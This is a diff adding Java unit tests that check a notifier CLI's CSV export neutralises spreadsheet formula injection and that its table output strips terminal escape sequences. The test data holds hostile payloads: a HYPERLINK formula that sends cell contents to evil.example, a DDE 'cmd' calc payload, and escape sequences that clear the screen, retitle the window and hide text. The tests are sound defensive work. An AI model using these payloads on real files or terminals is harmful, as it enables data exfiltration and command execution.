@@ -13,6 +13,8 @@ import dev.notifier.cli.ops.Csv;
 import dev.notifier.cli.ops.OpsException;
 import dev.notifier.cli.ops.StatusEntry;
 import dev.notifier.cli.ops.TimeArgs;
+import java.io.PrintWriter;
+import java.io.StringWriter;
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
@@ -95,6 +97,43 @@ class DltUnitsTest {
   @Test
   void csvQuotesWhatNeedsIt() {
     assertThat(Csv.line(List.of("a", "b,c", "say \"hi\"", "x\ny", ""))).isEqualTo("a,\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",");
+  }
+
+  @Test
+  void aFormulaInAReplyTextIsExportedToCsvAsText() {
+    // the attack: a mail server answers with a spreadsheet formula that an analyst's export would run
+    DeadLetterEntry e = entry(0, 7, "n-1", "bob@example.com", "PERMANENT", 550, "5.7.1", T);
+    e.letter().setReplyText("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+    e.letter().setFix("+1+cmd|' /C calc'!A0");
+    StringWriter out = new StringWriter();
+
+    DltFormat.CSV.write(List.of(e), new PrintWriter(out));
+
+    String row = out.toString().lines().toList().get(1);
+    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",")
+        .contains(",'+1+cmd|' /C calc'!A0,")
+        .doesNotContain(",=HYPERLINK").doesNotContain(",+1");
+  }
+
+  @Test
+  void everyFormulaStartIsNeutralisedAndOtherFieldsAreLeftAlone() {
+    assertThat(Csv.line(List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "2026-11-21T10:15:00Z", "")))
+        .isEqualTo("'=1+1,'+1,'-1,'@SUM(A1),'\tx,\"'\rx\",a=b,2026-11-21T10:15:00Z,");
+  }
+
+  @Test
+  void escapeSequencesInAReplyTextNeverReachTheTerminal() {
+    // the attack: a reply text that clears the screen, retitles the window, plants a link and hides text
+    DeadLetterEntry e = entry(0, 7, "n-1", "bob@example.com", "PERMANENT", 550, "5.7.1", T);
+    e.letter().setReplyText("550 \u001b[2J\u001b[1;1Hall good\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\x"
+        + "\u001b]8;;\u001b\\ \u009b31mred\u202Eevil\u0000\u007f\r\nBcc");
+    StringWriter out = new StringWriter();
+
+    DltFormat.TABLE.write(List.of(e), new PrintWriter(out));
+
+    String printed = out.toString();
+    assertThat(printed).doesNotContainPattern("[\\x00-\\x08\\x0B-\\x1F\\x7F\\x{80}-\\x{9F}\\x{202E}]");
+    assertThat(printed.lines().toList().get(1)).endsWith("550 all goodx redevil Bcc");
   }
 
   @Test
